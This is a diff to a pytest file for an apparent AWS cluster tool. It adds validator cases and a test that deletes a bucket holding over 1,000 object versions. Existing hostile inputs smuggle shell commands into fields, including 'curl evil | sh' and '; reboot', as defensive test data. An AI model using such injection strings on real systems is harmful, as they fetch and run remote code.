@@ -119,6 +119,8 @@ def test_every_value_in_a_boot_script_is_checked_and_quoted(moto_server):
         {**good, "agent_key": "c/servectl.zip\ncurl evil | sh"},
         {**good, "ray_version": "2.60.0'; curl evil | sh; '"},
         {**good, "proxy_port": "8000; reboot"},
+        {**good, "ray_resources": {**good["ray_resources"], "acc": float("nan")}},
+        {**good, "ray_version": "\u0661.60.0"},
     ]
     for attrs in hostile:
         with pytest.raises(ValueError):
@@ -153,3 +155,17 @@ def test_resources_a_crash_left_unrecorded_are_found_by_name_and_deleted(moto_se
         forgotten.live[spec.address] = found
         aws.delete(forgotten, spec.kind, found)
     assert aws.tagged_leftovers(ctx) == {}
+
+
+def test_destroy_empties_a_code_bucket_of_any_size(moto_server):
+    """More than one listing page (1,000 versions) of zips and delete markers: every one goes, then the bucket."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    ctx = aws.AwsContext(region="us-east-1", cluster=f"moto{next(_clusters)}")
+    live = aws.create_bucket(ctx, {"bucket": f"{ctx.cluster}-many-versions"})
+    s3 = ctx.client("s3")
+    with ThreadPoolExecutor(8) as pool:
+        list(pool.map(lambda i: s3.put_object(Bucket=live["bucket"], Key=f"{ctx.cluster}/code-{i % 700}.zip", Body=b"z"),
+                      range(1_100)))
+    aws.delete_bucket(ctx, live)
+    assert live["bucket"] not in [b["Name"] for b in s3.list_buckets()["Buckets"]]
